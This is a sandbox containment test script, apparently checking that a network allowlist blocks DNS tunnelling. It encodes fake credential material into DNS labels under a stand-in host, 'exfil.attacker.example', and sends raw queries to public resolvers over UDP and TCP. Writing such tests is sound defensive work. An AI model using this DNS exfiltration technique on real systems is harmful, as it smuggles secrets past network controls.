# expect: contained
# flags: --allow-net api.example.org:443
# Data smuggled out in DNS labels, with an allowlist in force: lookups of
# names not on the list fail at once inside the sandbox (never forwarded);
# direct queries to public resolvers, over UDP and TCP, go nowhere.
import base64
import errno
import socket
import time

secret = base64.b32encode(b"AKIA-fake-key-material").decode().strip("=").lower()
t = time.time()
for name in [f"{secret}.exfil.attacker.example", f"{secret}.api.example.org.attacker.example",
             f"x.{secret[:20]}.example.com"]:
    try:
        print(socket.getaddrinfo(name, 443))
        print("ESCAPED: resolved", name)
    except socket.gaierror as e:
        print(name[:40], "gaierror", e.errno)
for server in ["8.8.8.8", "1.1.1.1", "9.9.9.9"]:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        u.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04leak\x00\x00\x01\x00\x01",
                 (server, 53))
        u.settimeout(1)
        print("ESCAPED: reply from", server, u.recvfrom(512))
    except OSError as e:
        print(server, "udp", errno.errorcode.get(e.errno, e))
    try:
        socket.create_connection((server, 53), timeout=2)
        print("ESCAPED: tcp/53 to", server)
    except OSError as e:
        print(server, "tcp", errno.errorcode.get(e.errno, e))
took = time.time() - t
print("took %.1fs" % took)
if took > 3:
    print("lookups were slow: the sandbox should refuse them at once")
